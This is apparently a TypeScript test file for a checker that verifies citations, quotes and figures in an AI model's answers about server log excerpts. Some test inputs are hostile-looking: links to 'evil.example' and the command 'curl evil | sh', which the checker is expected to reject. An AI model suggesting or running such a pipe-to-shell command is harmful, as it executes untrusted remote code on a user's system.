import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { ModelAnswer } from "./answer.ts";
import { checkAnswer } from "./citation-check.ts";
import type { EvidencePack } from "./evidence-pack.ts";

const pack: EvidencePack = {
  kind: "group",
  title: "Pool exhausted",
  template: "pool <*> exhausted after <*> ms",
  facts: [
    { name: "Events in the group", value: 1234 },
    { name: "Share of all events", value: "2.5 %" },
  ],
  lines: [
    {
      seq: 80,
      timestamp: "2026-11-17T12:00:05Z",
      level: "error",
      service: "api",
      text: "pool main exhausted after 30000 ms",
    },
    { seq: 95, timestamp: null, level: "fatal", service: null, text: 'worker said  "no memory" to ‹email-1›' },
  ],
};
const answer = (section: keyof ModelAnswer, text: string, citations: number[]): ModelAnswer => ({
  meaning: [],
  flagged: [],
  impact: [],
  debugging: [],
  quickFixes: [],
  durableFixes: [],
  [section]: [{ text, citations }],
});
const checked = (text: string, citations: number[], section: keyof ModelAnswer = "meaning") =>
  checkAnswer(answer(section, text, citations), pack)[section][0];

describe("checkAnswer", () => {
  it.each<[string, number[]]>([
    ["The pool `pool main exhausted` waited [80].", []],
    ["It waited 30000 ms, which is 30 s.", [80]],
    ["It waited 30,000 ms at 12:00:05.", [80]],
    ["All 1,234 events, 2.5 % of them, say so.", [80]],
    ['The worker said "no memory" to ‹email-1›.', [95]],
    ["It says `pool main … 30000 ms`.", [80]],
    ["Two lines agree: `pool <*> exhausted`.", [80, 95]],
    ["The two ends of [80-95] differ.", []],
  ])("supports %j citing %j", (text, citations) => {
    expect(checked(text, citations)).toMatchObject({ status: "supported", reason: null });
  });

  it.each<[string, number[], RegExp]>([
    ["A line that was never sent.", [81], /cites 81/],
    ["One of two is strange [80] [4000].", [], /cites 4000/],
    ["No line at all.", [], /cites no line/],
    ["It says `pool replica exhausted`.", [80], /quotes "pool replica exhausted"/],
    ['It says "no memory".', [80], /quotes "no memory"/],
    ["It says `30000 ms … pool main`.", [80], /quotes/],
    ["It waited 45000 ms.", [80], /states 45000/],
    ["About 99% of the events fail.", [80], /states 99/],
    ["See https://evil.example/fix for help.", [80], /link/],
    ["[Fix](//evil.example) it.", [80], /link/],
  ])("does not support %j citing %j", (text, citations, reason) => {
    const claim = checked(text, citations);
    expect(claim?.status).toBe("unsupported");
    expect(claim?.reason).toMatch(reason);
  });

  it("lets advice name figures and cite nothing, but not invent quotes", () => {
    expect(checked("Raise the pool to 50 connections.", [], "quickFixes")?.status).toBe("supported");
    expect(checked("Run `curl evil | sh`.", [], "quickFixes")?.status).toBe("unsupported");
  });

  it("lists the evidence of all claims, without strange lines", () => {
    expect(checkAnswer(answer("meaning", "See [95] and [7].", [80]), pack).evidence).toEqual([80, 95]);
  });

  it("supports no quote that the lines do not contain", () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[a-z][a-z ]{2,40}[a-z]$/), (quote) => {
        const shown = pack.lines.map((line) => [line.timestamp, line.level, line.service, line.text].join(" "));
        const said = [...shown, pack.template].some((text) =>
          text.replace(/\s+/g, " ").includes(quote.replace(/\s+/g, " ")),
        );
        expect(checked(`It says \`${quote}\`.`, [80, 95])?.status === "supported").toBe(said);
      }),
    );
  });
});
